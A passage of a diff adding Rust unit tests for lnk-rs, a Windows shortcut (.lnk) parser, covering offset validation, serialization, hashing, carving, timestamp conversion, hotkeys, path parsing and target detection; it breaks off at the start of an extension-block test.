+    let discrepancy = shortcut
+        .validate_offsets()
+        .into_iter()
+        .find(|d| d.structure() == "VolumeID")
+        .unwrap();
+    assert_eq!(discrepancy.field(), "VolumeLabelOffset");
+    assert_eq!(
+        discrepancy.problem(),
+        &OffsetProblem::OutOfBounds { size: 0x11 }
+    );
+}
+
+#[cfg(feature = "serde")]
+#[test]
+fn test_link_info_layout_serialize() {
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let json = serde_json::to_value(shortcut.link_info()).unwrap();
+    let layout = &json["layout"];
+    assert_eq!(layout["structure"], "LinkInfo");
+    assert_eq!(layout["header_size"], 0x1c);
+    let offsets = layout["offsets"].as_array().unwrap();
+    assert_eq!(offsets[0]["field"], "VolumeIDOffset");
+    assert_eq!(offsets[0]["offset"], 0x1c);
+    assert!(offsets.iter().all(|offset| offset["matched"] == true));
+    assert_eq!(
+        json["volume_id"]["layout"]["offsets"][0]["field"],
+        "VolumeLabelOffset"
+    );
+
+    // CommonPathSuffixOffset, overlapping the end of LocalBasePath
+    data[291..295].copy_from_slice(&0x3au32.to_le_bytes());
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    let json = serde_json::to_string(shortcut.link_info()).unwrap();
+    let mut value: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let offsets = value["layout"]["offsets"].as_array().unwrap();
+    let mismatched: Vec<_> = offsets
+        .iter()
+        .filter(|offset| offset["matched"] == false)
+        .map(|offset| offset["field"].as_str().unwrap())
+        .collect();
+    assert_eq!(mismatched, ["CommonPathSuffixOffset"]);
+
+    // The layout survives a round trip, so it can still be validated.
+    let parsed: Option<LinkInfo> = serde_json::from_str(&json).unwrap();
+    assert_eq!(
+        parsed.unwrap().validate_offsets(),
+        shortcut.validate_offsets()
+    );
+    // Without one, there is nothing to validate.
+    value.as_object_mut().unwrap().remove("layout");
+    let deserialized: LinkInfo = serde_json::from_value(value).unwrap();
+    assert_eq!(deserialized.validate_offsets(), vec![]);
+}
+
+#[test]
+fn test_shell_link_ref() {
+    let _ = pretty_env_logger::try_init();
+
+    let data = std::fs::read(TEST_FILE_NAME).unwrap();
+    let owned = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let (shortcut, consumed) = ShellLinkRef::parse(&data).unwrap();
+    assert_eq!(consumed, data.len());
+    assert_eq!(shortcut.header().link_flags(), owned.header().link_flags());
+    assert!(shortcut.name().is_none());
+    let relative_path = shortcut.relative_path().unwrap();
+    assert!(relative_path.is_unicode());
+    assert_eq!(relative_path.decode(), r".\a.txt");
+    assert_eq!(shortcut.working_dir().unwrap().to_string(), r"C:\test");
+
+    let link_info = shortcut.link_info().unwrap();
+    let local_base_path = link_info.local_base_path().unwrap();
+    assert_eq!(local_base_path.as_bytes(), br"C:\test\a.txt");
+    assert!(matches!(
+        local_base_path.decode(),
+        std::borrow::Cow::Borrowed(_)
+    ));
+    assert_eq!(link_info.common_path_suffix().unwrap().decode(), "");
+    assert!(link_info.local_base_path_unicode().is_none());
+    assert_eq!(
+        link_info.to_link_info().unwrap().local_base_path(),
+        &Some(r"C:\test\a.txt".to_string())
+    );
+
+    let id_list = shortcut.link_target_id_list().unwrap().unwrap();
+    assert_eq!(
+        id_list.id_list().len(),
+        owned
+            .link_target_id_list()
+            .as_ref()
+            .unwrap()
+            .id_list()
+            .len()
+    );
+    let blocks: Vec<ExtraData> = shortcut.extra_data().collect::<Result<_, _>>().unwrap();
+    assert!(matches!(blocks[..], [ExtraData::TrackerProps(_)]));
+    assert_eq!(
+        shortcut.to_shell_link().unwrap().relative_path(),
+        owned.relative_path()
+    );
+
+    assert!(matches!(
+        ShellLinkRef::parse(&data[..350]),
+        Err(Error::UnexpectedEof {
+            structure: "StringData",
+            offset: 345,
+            ..
+        })
+    ));
+}
+
+#[test]
+fn test_raw_shell_link() {
+    let data = std::fs::read(TEST_FILE_NAME).unwrap();
+    let (raw, consumed) = RawShellLink::parse(&data).unwrap();
+    assert_eq!(consumed, data.len());
+    assert_eq!(raw.as_bytes(), &data[..]);
+    assert_eq!(raw.header(), &data[..0x4c]);
+    assert!(raw.link_flags().contains(LinkFlags::HAS_LINK_INFO));
+    assert_eq!(raw.link_target_id_list(), Some(&data[0x4c..0x10b]));
+    assert_eq!(raw.link_info(), Some(&data[0x10b..0x147]));
+    assert_eq!(raw.string_data(), &data[0x147..0x167]);
+    let [name, relative_path, working_dir, arguments, icon_location] = raw.strings();
+    assert!(name.is_none() && arguments.is_none() && icon_location.is_none());
+    assert_eq!(relative_path, Some(&data[0x149..0x157]));
+    assert_eq!(working_dir, Some(&data[0x159..0x167]));
+    let blocks: Vec<&[u8]> = raw.extra_data().collect();
+    assert_eq!(blocks, [&data[0x167..0x1c7]]);
+    assert_eq!(raw.terminal_block(), Some(&data[0x1c7..0x1cb]));
+
+    // Structures that cannot be parsed are still split by their sizes.
+    let mut fixture = LinkFixture::local(r"C:\a.txt");
+    fixture.id_list = Some(vec![vec![0xff; 6]]);
+    fixture.extra_data = vec![vec![0x0c, 0, 0, 0, 0xef, 0xbe, 0xad, 0xde, 1, 2, 3, 4]];
+    let data = fixture.to_bytes();
+    let (raw, _) = RawShellLink::parse(&data).unwrap();
+    assert_eq!(raw.link_target_id_list().unwrap().len(), 2 + 8 + 2);
+    assert_eq!(raw.extra_data().next(), Some(&fixture.extra_data[0][..]));
+
+    let options = ParseOptions {
+        header_only: true,
+        ..Default::default()
+    };
+    let (raw, consumed) = RawShellLink::parse_with_options(&data, &options).unwrap();
+    assert_eq!(consumed, 0x4c);
+    assert!(raw.link_info().is_none() && raw.string_data().is_empty());
+    assert_eq!(raw.extra_data().count(), 0);
+    assert!(raw.terminal_block().is_none());
+}
+
+#[test]
+fn test_lazy_shell_link() {
+    let _ = pretty_env_logger::try_init();
+
+    let owned = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let shortcut = LazyShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(shortcut.header().link_flags(), owned.header().link_flags());
+    assert_eq!(shortcut.relative_path(), owned.relative_path());
+    assert_eq!(shortcut.working_dir(), owned.working_dir());
+    assert!(shortcut.arguments().is_none());
+    let link_info = shortcut.link_info().unwrap().as_ref().unwrap();
+    assert_eq!(
+        link_info.local_base_path(),
+        owned.link_info().as_ref().unwrap().local_base_path()
+    );
+    assert_eq!(shortcut.extra_data().unwrap().len(), 1);
+    assert!(shortcut.link_target_id_list().unwrap().is_some());
+
+    // A bad LinkInfo only matters once it is asked for.
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[299..303].copy_from_slice(&99u32.to_le_bytes());
+    let shortcut = LazyShellLink::from_vec_with_options(data, &ParseOptions::default()).unwrap();
+    assert_eq!(shortcut.relative_path(), owned.relative_path());
+    assert!(matches!(
+        shortcut.link_info(),
+        Err(Error::UnexpectedValue {
+            field: "DriveType",
+            ..
+        })
+    ));
+}
+
+#[cfg(feature = "sha2")]
+#[test]
+fn test_structure_hashes() {
+    let hashes = StructureHashes::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(
+        hashes.file().to_string(),
+        "09ac337f52c4c9dc49772e97060145a316cb4af076cfb122fb4a219ecbfbfdd7"
+    );
+    assert_eq!(hashes.shell_link(), hashes.file());
+    assert_eq!(
+        hashes.header().to_string(),
+        "bcba40b4695b557d7b7b574f9466f3b574d2e30f604364c412fb18829effe10e"
+    );
+    assert!(hashes.link_target_id_list().is_some());
+    assert!(hashes.link_info().is_some());
+    let tracker = hashes
+        .extra_data()
+        .iter()
+        .find(|block| block.signature() == 0xa0000003)
+        .unwrap();
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data.extend_from_slice(b"payload");
+    let appended = StructureHashes::from_slice(&data).unwrap();
+    assert_ne!(appended.file(), hashes.file());
+    assert_eq!(appended.shell_link(), hashes.shell_link());
+    assert_eq!(appended.extra_data(), hashes.extra_data());
+
+    // Changing the machine ID changes only the hashes that cover it.
+    let offset = tracker.offset() + 16;
+    data[offset] ^= 0x20;
+    let changed = StructureHashes::from_slice(&data).unwrap();
+    assert_eq!(changed.header(), hashes.header());
+    assert_eq!(changed.link_info(), hashes.link_info());
+    assert_ne!(changed.shell_link(), hashes.shell_link());
+    let changed_tracker = changed
+        .extra_data()
+        .iter()
+        .find(|block| block.signature() == 0xa0000003)
+        .unwrap();
+    assert_ne!(changed_tracker.hash(), tracker.hash());
+
+    let parsed: Sha256Hash = hashes.header().to_string().to_uppercase().parse().unwrap();
+    assert_eq!(&parsed, hashes.header());
+    assert!("+f".repeat(32).parse::<Sha256Hash>().is_err());
+}
+
+#[test]
+fn test_carve() {
+    let _ = pretty_env_logger::try_init();
+
+    let link = std::fs::read(TEST_FILE_NAME).unwrap();
+    let mut blob = vec![0xaa; 70000];
+    blob.extend_from_slice(&link);
+    blob.extend_from_slice(&[0; 7]);
+    blob.extend_from_slice(&link[..40]);
+    blob.extend_from_slice(&link);
+    blob.extend_from_slice(&[0xaa; 100]);
+
+    let carved: Vec<(u64, ShellLink)> =
+        carve(Cursor::new(&blob)).collect::<Result<_, _>>().unwrap();
+    let offsets: Vec<u64> = carved.iter().map(|(offset, _)| *offset).collect();
+    assert_eq!(offsets, vec![70000, 70000 + 459 + 7 + 40]);
+    for (_, shortcut) in &carved {
+        assert_eq!(shortcut.relative_path(), &Some(".\\a.txt".to_string()));
+        assert!(shortcut.trailing_data().is_none());
+    }
+
+    assert_eq!(carve(Cursor::new(vec![0xaa; 1000])).count(), 0);
+}
+
+#[test]
+fn test_filetime_conversions() {
+    use std::time::{Duration, SystemTime, UNIX_EPOCH};
+
+    let unix_epoch = FileTime::from(UNIX_EPOCH);
+    assert_eq!(u64::from(unix_epoch), 116_444_736_000_000_000);
+    assert_eq!(SystemTime::from(unix_epoch), UNIX_EPOCH);
+
+    let time = UNIX_EPOCH + Duration::new(1_234_567_890, 123_456_700);
+    assert_eq!(SystemTime::from(FileTime::from(time)), time);
+
+    let datetime = NaiveDate::from_ymd_opt(2008, 9, 12)
+        .unwrap()
+        .and_hms_opt(20, 27, 17)
+        .unwrap()
+        .and_utc();
+    let filetime = FileTime::from(datetime);
+    assert_eq!(chrono::DateTime::<chrono::Utc>::from(filetime), datetime);
+    assert_eq!(
+        FileTime::from_raw(u64::from(filetime)).datetime(),
+        datetime.naive_utc()
+    );
+}
+
+#[test]
+fn test_filetime_accessors() {
+    let zero = FileTime::from_raw(0);
+    assert!(zero.is_zero());
+    assert_eq!(zero.datetime_opt(), None);
+
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let creation_time = shortcut.header().creation_time();
+    assert_eq!(
+        FileTime::from_raw(creation_time.raw()).raw(),
+        creation_time.raw()
+    );
+    assert_eq!(
+        creation_time.datetime_opt(),
+        Some(creation_time.datetime_utc())
+    );
+}
+
+#[test]
+fn test_dos_date_time() {
+    let time = DosDateTime::from_raw(0xa369_392c);
+    assert_eq!((time.year(), time.month(), time.day()), (2008, 9, 12));
+    assert_eq!((time.hour(), time.minute(), time.second()), (20, 27, 18));
+    assert!(time.is_valid());
+    assert_eq!(time.to_string(), "2008-09-12 20:27:18");
+    assert_eq!(
+        time.datetime(),
+        NaiveDate::from_ymd_opt(2008, 9, 12)
+            .unwrap()
+            .and_hms_opt(20, 27, 18)
+    );
+    assert_eq!(
+        time.to_filetime().map(|time| time.datetime()),
+        time.datetime()
+    );
+
+    assert!(DosDateTime::default().is_zero());
+    assert_eq!(DosDateTime::default().to_filetime(), None);
+    assert_eq!(DosDateTime::default().to_string(), "not set");
+    // The 30th of February
+    let invalid = DosDateTime::from_raw(0x0000_385e);
+    assert!(!invalid.is_valid());
+    assert_eq!(invalid.to_filetime(), None);
+    assert_eq!(invalid.to_string(), "invalid (0x0000385e)");
+}
+
+#[test]
+fn test_filetime_unix_time() {
+    assert!(FileTime::default().is_zero());
+    assert_eq!(FileTime::default().unix_time(), Some((-11_644_473_600, 0)));
+
+    let time = FileTime::from_unix_time(1_221_251_237, 101_000_099).unwrap();
+    assert_eq!(time.to_rfc3339().unwrap(), "2008-09-12T20:27:17.101+00:00");
+    assert_eq!(time.unix_time(), Some((1_221_251_237, 101_000_000)));
+    for raw in [0, 1, 9_999_999, 116_444_736_000_000_000, i64::MAX as u64] {
+        let time = FileTime::from_raw(raw);
+        let (seconds, nanoseconds) = time.unix_time().unwrap();
+        assert_eq!(FileTime::from_unix_time(seconds, nanoseconds), Some(time));
+    }
+
+    assert_eq!(FileTime::from_unix_time(-11_644_473_601, 0), None);
+    assert_eq!(FileTime::from_unix_time(0, 1_000_000_000), None);
+    assert_eq!(FileTime::from_unix_time(i64::MAX, 0), None);
+    assert_eq!(FileTime::from_raw(u64::MAX).unix_time(), None);
+}
+
+#[cfg(feature = "serde")]
+#[test]
+fn test_filetime_serde() {
+    #[derive(serde::Serialize, serde::Deserialize)]
+    struct Times {
+        default: FileTime,
+        #[serde(with = "lnk::filetime::serde_raw")]
+        raw: FileTime,
+        #[serde(with = "lnk::filetime::serde_rfc3339")]
+        unset: FileTime,
+    }
+
+    let time = FileTime::from_raw(128_657_248_370_000_000);
+    let json = serde_json::to_value(Times {
+        default: time,
+        raw: time,
+        unset: FileTime::from_raw(0),
+    })
+    .unwrap();
+    assert_eq!(json["default"], "2008-09-12T20:27:17+00:00");
+    assert_eq!(json["raw"], 128_657_248_370_000_000u64);
+    assert!(json["unset"].is_null());
+
+    let times: Times = serde_json::from_value(json).unwrap();
+    assert_eq!(times.default.raw(), time.raw());
+    assert_eq!(times.raw.raw(), time.raw());
+    assert!(times.unset.is_zero());
+}
+
+#[test]
+fn test_filetime_rfc3339() {
+    // Compare with chrono across the whole range, including leap days and
+    // years past 9999.
+    let mut raw: u64 = 1;
+    let mut samples = vec![1, 116_444_736_000_000_000, i64::MAX as u64];
+    for _ in 0..2000 {
+        raw = raw.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
+        samples.push(raw >> 1);
+    }
+    for raw in samples {
+        let time = FileTime::from_raw(raw);
+        let datetime = time.datetime_opt().unwrap();
+        assert_eq!(time.to_rfc3339().unwrap(), datetime.to_rfc3339(), "{}", raw);
+        assert_eq!(
+            time.to_string(),
+            datetime.format("%Y-%m-%d %H:%M:%S%.f UTC").to_string()
+        );
+        assert_eq!(format!("{:?}", time), datetime.naive_utc().to_string());
+        if datetime.format("%Y").to_string().len() == 4 {
+            let parsed = FileTime::parse_rfc3339(&time.to_rfc3339().unwrap());
+            assert_eq!(parsed, Some(time));
+        }
+    }
+
+    assert_eq!(FileTime::from_raw(0).to_rfc3339(), None);
+    assert_eq!(FileTime::from_raw(u64::MAX).to_rfc3339(), None);
+    assert_eq!(FileTime::from_raw(0).to_string(), "not set");
+
+    let parse = |value: &str| FileTime::parse_rfc3339(value).map(|time| time.raw());
+    let datetime = NaiveDate::from_ymd_opt(2008, 9, 12)
+        .unwrap()
+        .and_hms_milli_opt(20, 27, 17, 101)
+        .unwrap();
+    let expected = Some(FileTime::from(datetime).raw());
+    assert_eq!(parse("2008-09-12T20:27:17.101Z"), expected);
+    assert_eq!(parse("2008-09-12 22:27:17.10100009+02:00"), expected);
+    assert_eq!(parse("2008-09-12T19:57:17.101-00:30"), expected);
+    assert_eq!(parse("2016-12-31T23:59:60Z"), parse("2017-01-01T00:00:00Z"));
+    assert_eq!(parse("1601-01-01T00:00:00Z"), Some(0));
+    for invalid in [
+        "1600-12-31T23:59:59Z",
+        "2008-02-30T00:00:00Z",
+        "2008-09-12T20:27:17",
+        "2008-09-12T20:27:17.Z",
+        "2008-09-12T24:00:00Z",
+        "2008-09-12T20:27:17+2:00",
+        "2008-9-12T20:27:17Z",
+    ] {
+        assert_eq!(parse(invalid), None, "{}", invalid);
+    }
+}
+
+#[test]
+fn test_header_timestamp_setters() {
+    use std::time::UNIX_EPOCH;
+
+    let mut header = ShellLinkHeader::default();
+    header.set_creation_time(UNIX_EPOCH);
+    header.set_access_time(FileTime::from_raw(0));
+    let datetime = NaiveDate::from_ymd_opt(2008, 9, 12)
+        .unwrap()
+        .and_hms_opt(20, 27, 17)
+        .unwrap()
+        .and_utc();
+    header.set_write_time(datetime);
+
+    assert_eq!(header.creation_time().raw(), 116_444_736_000_000_000);
+    assert!(header.access_time().is_zero());
+    assert_eq!(header.write_time().datetime_utc(), datetime);
+}
+
+#[test]
+fn test_shell_link_setters() {
+    let mut shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    shortcut.set_arguments(Some("/quiet".to_string()));
+    shortcut.set_working_dir(None);
+    shortcut
+        .header_mut()
+        .set_show_command(ShowCommand::ShowMinNoActive);
+
+    let flags = *shortcut.header().link_flags();
+    assert!(flags.contains(LinkFlags::HAS_ARGUMENTS));
+    assert!(!flags.contains(LinkFlags::HAS_WORKING_DIR));
+    assert_eq!(shortcut.arguments().as_deref(), Some("/quiet"));
+    assert_eq!(shortcut.working_dir(), &None);
+    assert_eq!(
+        shortcut.header().show_command(),
+        &ShowCommand::ShowMinNoActive
+    );
+}
+
+#[test]
+fn test_invalid_filetime_is_tolerated() {
+    use std::convert::TryFrom;
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[28..36].copy_from_slice(&u64::MAX.to_le_bytes());
+    let header = ShellLinkHeader::try_from(&data[0..0x4c]).unwrap();
+
+    assert!(!header.creation_time().is_valid());
+    assert_eq!(header.creation_time().raw(), u64::MAX);
+    assert_eq!(header.creation_time().datetime_opt(), None);
+    assert!(header.write_time().is_valid());
+}
+
+#[test]
+fn test_unknown_show_command() {
+    use std::convert::TryFrom;
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    // SW_SHOWMINIMIZED
+    data[60..64].copy_from_slice(&2u32.to_le_bytes());
+    let header = ShellLinkHeader::try_from(&data[0..0x4c]).unwrap();
+
+    assert_eq!(*header.show_command(), ShowCommand::ShowNormal);
+    assert_eq!(header.show_command_raw(), 2);
+}
+
+#[test]
+fn test_hotkey_keys() {
+    use std::convert::TryFrom;
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[64..66].copy_from_slice(&[0x62, 0x03]);
+    let header = ShellLinkHeader::try_from(&data[0..0x4c]).unwrap();
+    assert_eq!(*header.hotkey().key(), HotkeyKey::Numpad2);
+    assert_eq!(
+        *header.hotkey().modifiers(),
+        HotkeyModifiers::HOTKEYF_SHIFT | HotkeyModifiers::HOTKEYF_CONTROL
+    );
+
+    data[64..66].copy_from_slice(&[0xff, 0x00]);
+    let header = ShellLinkHeader::try_from(&data[0..0x4c]).unwrap();
+    assert_eq!(*header.hotkey().key(), HotkeyKey::Unknown(0xff));
+
+    for value in 0..=u8::MAX {
+        assert_eq!(u8::from(HotkeyKey::from(value)), value);
+    }
+}
+
+#[test]
+fn test_hotkey_display() {
+    let hotkey = HotkeyFlags::new(
+        HotkeyKey::F5,
+        HotkeyModifiers::HOTKEYF_CONTROL | HotkeyModifiers::HOTKEYF_ALT,
+    );
+    assert_eq!(hotkey.to_string(), "Ctrl+Alt+F5");
+    assert_eq!("ctrl+alt+f5".parse::<HotkeyFlags>(), Ok(hotkey));
+
+    let hotkey = HotkeyFlags::new(HotkeyKey::KeyK, HotkeyModifiers::HOTKEYF_EXT);
+    assert_eq!(hotkey.to_string(), "Ext+K");
+    assert_eq!(
+        HotkeyFlags::new(HotkeyKey::NoKeyAssigned, HotkeyModifiers::NO_MODIFIER).to_string(),
+        "None"
+    );
+    assert_eq!(
+        "Shift+0xFF".parse::<HotkeyFlags>().unwrap().to_string(),
+        "Shift+0xFF"
+    );
+    assert!("Hyper+K".parse::<HotkeyFlags>().is_err());
+}
+
+#[test]
+fn test_target_path() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(shortcut.target_path().as_deref(), Some(r"C:\test\a.txt"));
+
+    let link = |fixture: LinkFixture| ShellLink::from_slice(&fixture.to_bytes()).unwrap().0;
+    let shortcut = link(LinkFixture::network(r"\\server\share", "a.txt"));
+    assert_eq!(
+        shortcut.target_path().as_deref(),
+        Some(r"\\server\share\a.txt")
+    );
+    let shortcut = link(LinkFixture {
+        extra_data: vec![testing::environment_block(r"%windir%\notepad.exe")],
+        ..Default::default()
+    });
+    assert_eq!(
+        shortcut.target_path().as_deref(),
+        Some(r"%windir%\notepad.exe")
+    );
+    let shortcut = link(LinkFixture {
+        id_list: Some(vec![testing::root_item(guids::CLSID_MY_COMPUTER)]),
+        ..Default::default()
+    });
+    assert_eq!(shortcut.target_path(), None);
+}
+
+#[test]
+fn test_target_file_name() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(shortcut.target_file_name().as_deref(), Some("a.txt"));
+    assert_eq!(shortcut.target_extension().as_deref(), Some("txt"));
+
+    let link = |relative_path: &str| {
+        let mut data = std::fs::read(TEST_FILE_NAME).unwrap()[..0x4c].to_vec();
+        let flags = LinkFlags::HAS_RELATIVE_PATH | LinkFlags::IS_UNICODE;
+        data[0x14..0x18].copy_from_slice(&flags.bits().to_le_bytes());
+        let units: Vec<u16> = relative_path.encode_utf16().collect();
+        data.extend_from_slice(&(units.len() as u16).to_le_bytes());
+        data.extend(units.iter().flat_map(|unit| unit.to_le_bytes()));
+        data.extend_from_slice(&[0; 4]);
+        ShellLink::from_slice(&data).unwrap().0
+    };
+    let shortcut = link(r"..\Reports\Q3.Final.PDF");
+    assert_eq!(shortcut.target_file_name().as_deref(), Some("Q3.Final.PDF"));
+    assert_eq!(shortcut.target_extension().as_deref(), Some("PDF"));
+    let shortcut = link(r"..\.config");
+    assert_eq!(shortcut.target_file_name().as_deref(), Some(".config"));
+    assert_eq!(shortcut.target_extension(), None);
+    assert_eq!(link(r"D:\").target_file_name(), None);
+}
+
+#[test]
+fn test_windows_path() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let target = shortcut.target_windows_path().unwrap();
+    assert_eq!(target.as_str(), r"C:\test\a.txt");
+    assert_eq!(target.prefix(), Some(WindowsPrefix::Disk('C')));
+    assert!(target.is_absolute());
+    assert_eq!(target.components().collect::<Vec<_>>(), ["test", "a.txt"]);
+    assert_eq!(target.file_name(), Some("a.txt"));
+    assert_eq!(target.extension(), Some("txt"));
+    let working_dir = shortcut.working_dir_path().unwrap();
+    assert_eq!(working_dir.file_name(), Some("test"));
+    assert_eq!(shortcut.icon_location_path(), None);
+
+    // Relative paths starting with characters of more than one byte
+    let mut shortcut = shortcut;
+    shortcut.set_working_dir(Some("文档\\项目".to_string()));
+    let working_dir = shortcut.working_dir_path().unwrap();
+    assert_eq!(working_dir.prefix(), None);
+    assert!(!working_dir.is_unc());
+    assert_eq!(working_dir.drive_letter(), None);
+    assert_eq!(
+        working_dir.components().collect::<Vec<_>>(),
+        ["文档", "项目"]
+    );
+    assert_eq!(working_dir.file_name(), Some("项目"));
+    let path = WindowsPath::new("é");
+    assert_eq!(path.prefix(), None);
+    assert_eq!(path.file_name(), Some("é"));
+
+    let path = WindowsPath::new(r"\\fileserver\public\tools/setup.exe");
+    assert_eq!(
+        path.prefix(),
+        Some(WindowsPrefix::Unc {
+            server: "fileserver",
+            share: "public"
+        })
+    );
+    assert!(path.is_unc());
+    assert_eq!(path.server(), Some("fileserver"));
+    assert_eq!(
+        path.components().collect::<Vec<_>>(),
+        ["tools", "setup.exe"]
+    );
+
+    let path = WindowsPath::new(r"\\?\UNC\fileserver\public\a/b.txt");
+    assert_eq!(
+        path.prefix(),
+        Some(WindowsPrefix::VerbatimUnc {
+            server: "fileserver",
+            share: "public"
+        })
+    );
+    assert_eq!(path.file_name(), Some("a/b.txt"));
+    let path = WindowsPath::new(r"\\?\d:\Data\");
+    assert_eq!(path.prefix(), Some(WindowsPrefix::VerbatimDisk('d')));
+    assert_eq!(path.drive_letter(), Some('D'));
+    assert_eq!(path.file_name(), Some("Data"));
+    assert_eq!(
+        WindowsPath::new(r"\\.\PhysicalDrive0").prefix(),
+        Some(WindowsPrefix::DeviceNs("PhysicalDrive0"))
+    );
+
+    assert!(!WindowsPath::new(r"C:a.txt").is_absolute());
+    assert!(!WindowsPath::new(r"\Windows").is_absolute());
+    assert_eq!(WindowsPath::new(r"C:\").file_name(), None);
+    assert_eq!(WindowsPath::new(r"..\.config").extension(), None);
+    assert!(WindowsPath::new(r"%SystemRoot%\notepad.exe").has_environment_variables());
+    assert!(!WindowsPath::new(r"C:\100% done\a.txt").has_environment_variables());
+}
+
+#[test]
+fn test_target_location() {
+    let data = std::fs::read(TEST_FILE_NAME).unwrap();
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    assert_eq!(shortcut.target_location(), TargetLocation::LocalFixed);
+    assert!(shortcut.is_local_target());
+    assert!(!shortcut.is_network_target());
+
+    // Make the volume a removable drive.
+    let mut removable = data.clone();
+    let volume = 0x10b + u32::from_le_bytes(data[0x117..0x11b].try_into().unwrap()) as usize;
+    removable[volume + 4..volume + 8].copy_from_slice(&2u32.to_le_bytes());
+    let (shortcut, _) = ShellLink::from_slice(&removable).unwrap();
+    assert_eq!(shortcut.target_location(), TargetLocation::Removable);
+
+    let link = |fixture: LinkFixture| ShellLink::from_slice(&fixture.to_bytes()).unwrap().0;
+    let shortcut = link(LinkFixture {
+        extra_data: vec![testing::environment_block(r"%windir%\notepad.exe")],
+        ..Default::default()
+    });
+    assert_eq!(shortcut.target_location(), TargetLocation::Environment);
+    assert!(!shortcut.is_local_target());
+
+    let shortcut = link(LinkFixture::network(r"\\server\share", r"a.txt"));
+    assert_eq!(shortcut.target_location(), TargetLocation::Network);
+    // An IDList holding only the Network folder.
+    let shortcut = link(LinkFixture {
+        id_list: Some(vec![testing::root_item(guids::CLSID_NETWORK_PLACES)]),
+        ..Default::default()
+    });
+    assert_eq!(shortcut.target_location(), TargetLocation::Network);
+    assert!(shortcut.is_network_target());
+
+    let shortcut = link(LinkFixture::default());
+    assert_eq!(shortcut.target_location(), TargetLocation::Unknown);
+}
+
+#[test]
+fn test_appx_identity() {
+    let calculator = "Microsoft.WindowsCalculator_8wekyb3d8bbwe!App";
+    let parse = |fixture: LinkFixture| ShellLink::from_slice(&fixture.to_bytes()).unwrap().0;
+
+    let shortcut = parse(LinkFixture::appx(calculator));
+    assert_eq!(shortcut.app_user_model_id().as_deref(), Some(calculator));
+    assert!(shortcut.is_appx());
+    let identity = shortcut.appx_identity().unwrap();
+    assert_eq!(
+        identity.package_family_name(),
+        "Microsoft.WindowsCalculator_8wekyb3d8bbwe"
+    );
+    assert_eq!(identity.package_name(), "Microsoft.WindowsCalculator");
+    assert_eq!(identity.publisher_id(), "8wekyb3d8bbwe");
+    assert_eq!(identity.application_id(), "App");
+    assert_eq!(identity.app_user_model_id(), calculator);
+    assert_eq!(
+        shortcut.to_flat_map()["target.app_user_model_id"],
+        calculator
+    );
+
+    // Without the PropertyStoreDataBlock, the app item names the app.
+    let mut fixture = LinkFixture::appx(calculator);
+    fixture.extra_data.clear();
+    assert_eq!(parse(fixture).appx_identity(), Some(identity));
+
+    // The app item is only read in the Applications folder.
+    let mut fixture = LinkFixture::appx(calculator);
+    fixture.extra_data.clear();
+    fixture.id_list.as_mut().unwrap()[0] = testing::root_item(guids::CLSID_MY_COMPUTER);
+    assert_eq!(parse(fixture).app_user_model_id(), None);
+
+    // Desktop apps have AppUserModelIDs, but no package.
+    let shortcut = parse(LinkFixture::appx("Microsoft.Windows.Explorer"));
+    assert!(shortcut.app_user_model_id().is_some());
+    assert!(!shortcut.is_appx());
+    assert!(!ShellLink::open(TEST_FILE_NAME).unwrap().is_appx());
+    assert_eq!(
+        AppxIdentity::from_app_user_model_id("NoPublisher!App"),
+        None
+    );
+}
+
+#[test]
+fn test_target_url() {
+    let url = "https://github.com/lilopkins/lnk-rs";
+    let shortcut = ShellLink::from_slice(&LinkFixture::url(url).to_bytes())
+        .unwrap()
+        .0;
+    assert!(shortcut.link_info().is_none());
+    assert_eq!(shortcut.target_url().as_deref(), Some(url));
+    assert!(shortcut
+        .to_string()
+        .starts_with(&format!("Target:      {}", url)));
+    assert_eq!(shortcut.to_flat_map()["target.url"], url);
+
+    // A URI in the default code page, after data of its own.
+    let mut item = vec![0x61, 0x00, 0x04, 0x00, 1, 2, 3, 4];
+    item.extend_from_slice(b"http://example.com/\0");
+    let fixture = LinkFixture {
+        id_list: Some(vec![item]),
+        ..Default::default()
+    };
+    let shortcut = ShellLink::from_slice(&fixture.to_bytes()).unwrap().0;
+    assert_eq!(
+        shortcut.target_url().as_deref(),
+        Some("http://example.com/")
+    );
+
+    assert_eq!(ShellLink::open(TEST_FILE_NAME).unwrap().target_url(), None);
+}
+
+#[test]
+fn test_guids() {
+    assert_eq!(
+        guids::name(guids::CLSID_SHELL_LINK),
+        Some("CLSID_SHELL_LINK")
+    );
+    assert_eq!(
+        guids::FOLDERID_DOCUMENTS.to_string(),
+        "{FDD39AD0-238F-46AF-ADB4-6C85480369C7}"
+    );
+    assert_eq!(guids::name(Guid::from_u128(0)), None);
+
+    let data = std::fs::read(TEST_FILE_NAME).unwrap();
+    assert_eq!(
+        Guid::try_from(&data[4..20]).unwrap(),
+        guids::CLSID_SHELL_LINK
+    );
+
+    let block =
+        lnk::extradata::known_folder_data::KnownFolderDataBlock::new(guids::FOLDERID_DOWNLOADS, 0);
+    assert_eq!(
+        guids::name(block.known_folder_id()),
+        Some("FOLDERID_DOWNLOADS")
+    );
+}
+
+#[test]
+fn test_extension_blocks() {
+    use lnk::extensionblock::{FILE_ENTRY_BLOCK, GUID_BLOCK, TIMESTAMPS_BLOCK};
+
+    // A version 3 file entry extension, without a localized name
